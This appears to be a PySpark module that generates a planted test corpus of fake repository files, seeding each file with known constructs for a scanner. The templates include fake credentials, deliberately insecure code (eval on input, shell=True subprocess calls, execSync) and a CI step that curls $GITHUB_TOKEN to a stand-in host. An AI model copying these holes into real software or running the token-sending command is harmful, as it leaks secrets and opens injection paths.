"""Derived tables: a planted corpus of repositories built from the given tables.

Every document becomes one file: a template chosen by its id plants a known
construct, and the whole text of the document follows inside a comment.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

from reposieve.session import spread

# {STR}, {HEX} and {B64} are the only engine-specific pieces.
SPARK = {
    "STR": "STRING",
    "HEX": "sha2(CAST(doc_id AS STRING), 256)",
    "B64": "base64(unhex(sha2(CAST(doc_id AS STRING), 256)))",
    "BYTES": "octet_length",
}
DUCKDB = {
    "STR": "VARCHAR",
    "HEX": "sha256(CAST(doc_id AS VARCHAR))",
    "B64": "to_base64(unhex(sha256(CAST(doc_id AS VARCHAR))))",
    "BYTES": "strlen",
}

FILES = """
WITH d AS (
  SELECT doc_id, CAST(substr(source, 4) AS INT) AS n, {HEX} AS h, {B64} AS b,
         replace(replace(text, chr(13), ' '), chr(10), ' ') AS body
  FROM documents),
t AS (SELECT *, CASE WHEN n IN (3, 11) THEN 16 ELSE doc_id % 17 END AS k,
             CAST(doc_id AS {STR}) AS d, chr(10) AS nl FROM d),
c AS (
SELECT doc_id, k, concat('org', CAST(n % 5 AS {STR})) AS owner, concat('svc-', CAST(n AS {STR})) AS name,
 CASE k WHEN 0 THEN concat('src/app', d, '.py')  WHEN 1 THEN concat('src/cfg', d, '.py')
        WHEN 2 THEN concat('src/gh', d, '.ts')   WHEN 3 THEN concat('src/api', d, '.js')
        WHEN 4 THEN concat('conf/db', d, '.yaml') WHEN 5 THEN concat('src/ent', d, '.py')
        WHEN 6 THEN concat('docs/guide', d, '.md') WHEN 7 THEN concat('src/ev', d, '.py')
        WHEN 8 THEN concat('src/sp', d, '.py')   WHEN 9 THEN concat('src/sq', d, '.py')
        WHEN 10 THEN concat('src/fo', d, '.py')  WHEN 11 THEN concat('src/ht', d, '.py')
        WHEN 12 THEN concat('web/ex', d, '.js')  WHEN 13 THEN concat('.github/workflows/ci', d, '.yml')
        WHEN 14 THEN concat('pkg', d, '/pnpm-lock.yaml') WHEN 15 THEN concat('tests/fixtures/s', d, '.py')
        ELSE concat('src/ok', d, '.py') END AS path,
 concat(CASE k
  WHEN 0 THEN concat('AWS = "AKIA', upper(substr(h, 1, 16)), '"')
  WHEN 1 THEN concat('aws_secret = "', substr(b, 1, 40), '"')
  WHEN 2 THEN concat('const t = "ghp_', substr(h, 1, 36), '";')
  WHEN 3 THEN concat('api_key: "', h, '"')
  WHEN 4 THEN concat('password: "', substr(h, 1, 12), '"')
  WHEN 5 THEN concat('TOKEN_VALUE = "', b, '"')
  WHEN 6 THEN concat('token = "', h, '"')
  WHEN 7 THEN concat('def f(a):', nl, '    return eval(a)')
  WHEN 8 THEN concat('import subprocess', nl, 'def f(c):', nl, '    e = c', nl, '    subprocess.run(e, shell=True)')
  WHEN 9 THEN concat('import subprocess', nl, 'def f(c):', nl, '    subprocess.call(c)')
  WHEN 10 THEN concat('def f(p):', nl, '    q = p', nl, '    open(q)')
  WHEN 11 THEN concat('import requests', nl, 'def f(u):', nl, '    requests.get(u)', nl,
       'requests.get("http://10.0.0.', CAST(doc_id % 250 AS {STR}), '/x")', nl,
       'requests.post("https://h', d, '.example.com/y")', nl, 'requests.get("https://api.github.com/z")')
  WHEN 12 THEN 'eval("1"); child_process.execSync("ls");'
  WHEN 13 THEN concat('jobs:', nl, '  b:', nl, '    steps:', nl, '    - uses: actions/checkout@main', nl,
       '    - uses: ./local', nl, '    - uses: actions/setup@v4', nl, '    - uses: a/b@', substr(h, 1, 40), nl,
       '    - run: curl -H $GITHUB_TOKEN https://x.example')
  WHEN 15 THEN concat('TOKEN_VALUE = "', b, '"')
  ELSE 'x = 1' END, nl, CASE WHEN k IN (2, 3, 12) THEN '// ' ELSE '# ' END, body, nl) AS content
FROM t)
SELECT doc_id, k, owner, name, path, CAST({BYTES}(content) AS BIGINT) AS length, content FROM c
"""

REPOS = """
WITH n AS (SELECT DISTINCT CAST(substr(source, 4) AS INT) AS n FROM documents),
k AS (SELECT concat('org', CAST(n % 5 AS {STR})) AS owner, concat('svc-', CAST(n AS {STR})) AS name,
             CAST((n * 37) % 101 AS INT) AS stargazers_count,
             CASE n % 12 WHEN 0 THEN 'master' ELSE 'main' END AS default_branch FROM n
      UNION ALL
      SELECT concat('org', CAST(s_nationkey AS {STR})), concat('lib-', CAST(s_suppkey AS {STR})),
             CAST(floor(abs(s_acctbal)) AS INT), 'main' FROM supplier)
SELECT owner, name, concat(owner, '/', name) AS full_name,
       concat('https://github.com/', owner, '/', name) AS html_url, stargazers_count, default_branch FROM k
"""

MESSAGES = """
SELECT conv_id, turn, concat(text, ' see https://github.com/org', CAST(conv_id % 5 AS {STR}),
       '/svc-', CAST(conv_id % 20 AS {STR}), CASE turn % 3 WHEN 0 THEN '/tree/main' WHEN 1 THEN '.git' ELSE '.' END) AS text
FROM conversations
"""

_TABLES = ("documents", "supplier", "conversations", "pages", "events", "labels", "customer", "orders")


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def _derive(spark: SparkSession, sf_dir: str, sql: str) -> DataFrame:
    used = {t: spread(table(spark, sf_dir, t)) for t in _TABLES if t in sql}
    for t in used:
        sql = sql.replace(f"FROM {t}", "FROM {" + t + "}")
    return spark.sql(sql.format(**SPARK, **{t: "{" + t + "}" for t in used}), **used)


def files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``files(doc_id, k, owner, name, path, length, content)``."""
    return _derive(spark, sf_dir, FILES)


def repos(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _derive(spark, sf_dir, REPOS)


def messages(spark: SparkSession, sf_dir: str) -> DataFrame:
    return _derive(spark, sf_dir, MESSAGES)
